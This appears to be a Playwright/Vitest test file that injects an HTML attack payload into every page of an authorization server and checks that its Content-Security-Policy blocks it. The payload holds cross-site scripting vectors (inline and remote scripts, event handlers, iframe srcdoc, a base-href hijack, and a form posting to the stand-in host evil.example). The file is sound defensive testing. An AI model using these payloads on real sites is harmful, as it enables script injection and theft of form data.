import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { openPage } from '../support/browser.ts';
import { setScene } from './support/login.ts';
import { everyPage } from './support/pages.ts';

// Over src/authorization-server/views/content-security-policy.ts, in a browser that would run scripts.

const scene = setScene();

/** Where the attacker is; nothing is there but what a test answers. */
const attackerUrl = 'http://evil.example';

/** Opens a page of a browser that runs scripts, and notes what it asks of the attacker. */
async function openVictim() {
  const { page, complaints } = await openPage(scene.browser, { javaScriptEnabled: true });
  const asked: string[] = [];
  await page.route(`${attackerUrl}/**`, async (route) => {
    asked.push(new URL(route.request().url()).pathname);
    await route.fulfill({ contentType: 'text/javascript', body: 'globalThis.ran = "a file"' });
  });
  return { page, complaints, asked };
}

/** What an attacker would put into a page of ours, if its texts were not escaped. */
function payload(): string {
  return `<script>globalThis.ran = 'inline'</script>
<script src="${attackerUrl}/file.js"></script>
<img src="${attackerUrl}/image" onerror="globalThis.ran = 'handler'" alt="">
<svg onload="globalThis.ran = 'svg'"></svg>
<iframe src="${attackerUrl}/frame" srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<link rel="stylesheet" href="${attackerUrl}/style.css">
<object data="${attackerUrl}/object"></object>
<base href="${attackerUrl}/base/">
<style>body{background:url(${attackerUrl}/background)}</style>
<form action="${attackerUrl}/form" method="post" id="stolen"></form>`;
}

/** Loads the page that is open once more with the payload in it, its headers as they were sent. */
async function inject(page: Page, without?: string): Promise<void> {
  await page.route(page.url(), async (route) => {
    const response = await route.fetch({ maxRedirects: 0 });
    const html = await response.text();
    const headers = response.headers();
    if (without) delete headers[without];
    await route.fulfill({ response, headers, body: html.replace('</main>', `${payload()}</main>`) });
  });
  await page.reload();
  expect(await page.locator('#stolen').count()).toBe(1);
}

/** What came of the payload: what ran, and where relative links would lead. */
const outcome = (page: Page): Promise<unknown> =>
  page.evaluate('({ ran: globalThis.ran, base: document.baseURI })');

describe('what an attacker puts into a page', () => {
  it.each(everyPage)(
    '$name neither runs, nor loads anything, nor moves its links (T-017, T-198)',
    async ({ open }) => {
      const { page, complaints, asked } = await openVictim();
      await open(scene, page);
      await inject(page);
      expect(await outcome(page)).toEqual({ ran: undefined, base: page.url() });
      expect(complaints.filter((one) => /script-src/.test(one)).length).toBeGreaterThanOrEqual(3);
      expect(asked).toEqual([]);
    },
  );

  it('cannot send a form away where no app waits for the answer', async () => {
    const { page, complaints, asked } = await openVictim();
    await page.goto(scene.served.url);
    await inject(page);
    await page.evaluate('document.getElementById("stolen").submit()');
    await expect.poll(() => complaints.filter((one) => /form-action/.test(one)).length).toBeGreaterThan(0);
    expect(asked).toEqual([]);
  });

  it('would run and load without the policy', async () => {
    const { page, asked } = await openVictim();
    await page.goto(scene.served.url);
    await inject(page, 'content-security-policy');
    expect(await outcome(page)).toMatchObject({ ran: expect.any(String), base: `${attackerUrl}/base/` });
    await expect.poll(() => asked).toEqual(expect.arrayContaining(['/file.js', '/image', '/object']));
  });
});
